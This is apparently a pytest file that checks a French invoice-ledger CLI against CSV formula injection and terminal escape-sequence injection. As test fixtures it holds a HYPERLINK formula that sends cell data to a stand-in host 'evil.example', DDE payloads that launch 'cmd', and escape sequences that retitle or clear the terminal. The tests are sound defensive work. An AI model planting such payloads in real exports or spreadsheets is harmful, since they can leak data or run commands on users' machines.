"""Reading the ledger from the command line with hostile data in it.

A CSV export is opened in a spreadsheet, which runs a cell opening with
``=``, ``+``, ``-`` or ``@`` as a formula; a name holding escape sequences
is obeyed by the terminal it is printed on.  Both come from outside (an
ERP's export, a bank statement, the web screen), so what the commands write
must be harmless whatever the ledger holds.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from helpers import Cli
from sqlalchemy import Executable, update

from relances.daemon import formatting as fmt
from relances.daemon.models import Customer, Invoice

AS_OF = "22/11/2024"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Détails")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# An OSC sequence that retitles the terminal, an 8-bit CSI (C1), a bidi override.
TITLE = "INTEL\x1b]0;pwned\x07 SA\x9b2J\u202eLIAM"
TITLE_SHOWN = "INTEL\\x1b]0;pwned\\x07 SA\\x9b2J\\u202eLIAM"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def exported(cli: Cli, output: str = "csv-en") -> dict[str, dict[str, str]]:
    out = cli(["list", "--format", output, "--as-of", AS_OF]).stdout
    if output == "csv-en":
        return {row["invoice_number"]: row for row in csv.DictReader(io.StringIO(out))}
    assert out.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";")
    return {row["N° Fac."]: row for row in reader}


def test_csv_export_quotes_cells_a_spreadsheet_would_run_and_keeps_numbers(
        cli: Cli, change_ledger: Callable[[Executable], None], tsv: Callable[..., Path]) -> None:
    hostile = "\t".join(["EVIL1", SUM, HYPERLINK, "", "01/10/2024", "F-EVIL", "-2+3", DDE,
                         "100,00", "100,00", "15/10/2024", "Divers", "", "", "", "", ""])
    cli(["import", "invoices", str(tsv(hostile))])
    # A credit balance shown as a negative total: a number, never a formula.
    change_ledger(update(Invoice).where(Invoice.number == "F-EVIL").values(total=Decimal("-10")))

    row = exported(cli)["F-EVIL"]
    assert row["customer_name"] == "'" + HYPERLINK
    assert row["affiliate_code"] == "'" + SUM
    assert row["assignment"] == "'-2+3"
    assert row["representative"] == "'" + DDE
    assert (row["total"], row["remaining"]) == ("-10.00", "100.00")
    assert row["due_date"] == "2024-10-15" and row["level"] == "0"

    # The French form: the same guard, French numbers and dates, the screen's names.
    row = exported(cli, "csv")["F-EVIL"]
    assert row["Nom"] == "'" + HYPERLINK and row["Affect."] == "'-2+3"
    assert (row["Total Fac."], row["Reste"]) == ("-10,00", "100,00")  # numbers, not text
    assert (row["Échéance"], row["N"], row["Litige"]) == ("15/10/2024", "0", "non")

    # The JSON output is data for programs: the values as they are.
    (listed,) = json.loads(cli(["list", "--format", "json", "--customer", "EVIL1",
                                "--as-of", AS_OF]).stdout)
    assert (listed["customer_name"], listed["assignment"]) == (HYPERLINK, "-2+3")
    assert listed["total"] == "-10.00"


def test_write_csv_decides_by_type_not_by_text() -> None:
    out = io.StringIO()
    fmt.write_csv(out, ["cell", "=header"], [
        ["=1+1", Decimal("-12.50")], ["-12.50", -3], ["+33 1 45 67 89 01", 2.5],
        ["@A1", None], ["\tTAB", True], ["\rCR", dt.date(2024, 11, 22)],
        ["ordinary text", "a = b"], ["", "'already quoted"], ["one\rline", "two\nlines"],
    ])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["cell", "'=header"],
        ["'=1+1", "-12.50"], ["'-12.50", "-3"], ["'+33 1 45 67 89 01", "2.5"],
        ["'@A1", ""], ["'\tTAB", "True"], ["'\rCR", "2024-11-22"],
        ["ordinary text", "a = b"], ["", "'already quoted"], ["one\rline", "two\nlines"],
    ]


def test_the_french_csv_opens_as_is_in_a_french_spreadsheet() -> None:
    out = io.StringIO()
    fmt.write_csv(out, ["Nom", "Reste"], [
        ["DANIÈRE; FLORENCE", Decimal("1253.06")], ["=1+1", Decimal("-12.50")],
        ["le 24", dt.date(2024, 11, 24)], ["oui ?", True], ["vide", None], ["compte", 3],
    ], french=True)
    text = out.getvalue()
    assert text.startswith("\ufeffNom;Reste\r\n")  # the BOM: Excel reads UTF-8, not cp1252
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")) == [
        ["Nom", "Reste"], ["DANIÈRE; FLORENCE", "1253,06"], ["'=1+1", "-12,50"],
        ["le 24", "24/11/2024"], ["oui ?", "oui"], ["vide", ""], ["compte", "3"],
    ]


def test_control_characters_in_names_are_shown_not_obeyed(
        seeded: Cli, change_ledger: Callable[[Executable], None]) -> None:
    change_ledger(update(Customer).where(Customer.code == "INT01").values(name=TITLE))
    seeded(["hold", "COD_F1026", "--reason", "contesté\x1b[2J\x1b[H tout va bien"])
    seeded(["note", "INT01", "rappel\r\x1b[31mà payer\u2066"])

    outputs = {
        "list": seeded(["list", "--as-of", AS_OF]).stdout,
        "customer": seeded(["customer", "INT01", "--as-of", AS_OF]).stdout,
        "invoice": seeded(["invoice", "COD_F1026", "--as-of", AS_OF]).stdout,
        "history": seeded(["history", "COD_F1026"]).stdout,
    }
    for command, out in outputs.items():
        assert not [c for c in RAW if c in out], f"relances {command} printed {out!r}"
        assert "\r" not in out, command
    for command in ("list", "customer", "invoice"):
        assert TITLE_SHOWN in outputs[command], outputs[command]
    assert "contesté\\x1b[2J\\x1b[H tout va bien" in outputs["history"]
    assert "contesté\\x1b[2J\\x1b[H tout va bien" in outputs["invoice"]
    assert "rappel\\x0d\\x1b[31mà payer\\u2066" in outputs["customer"]

    (row,) = json.loads(seeded(["list", "--format", "json", "--customer", "INT01",
                                "--as-of", AS_OF]).stdout)
    assert row["customer_name"] == TITLE


@pytest.mark.parametrize("name", ["plain ASCII", "Société Générale — Étienne", "李小龙",
                                  "Müller & Söhne", "emoji 👨‍👩‍👧 family"])
def test_ordinary_names_are_printed_as_they_are(name: str) -> None:
    assert fmt.printable(name) == name
    assert name in fmt.table(("Nom",), [[name]])
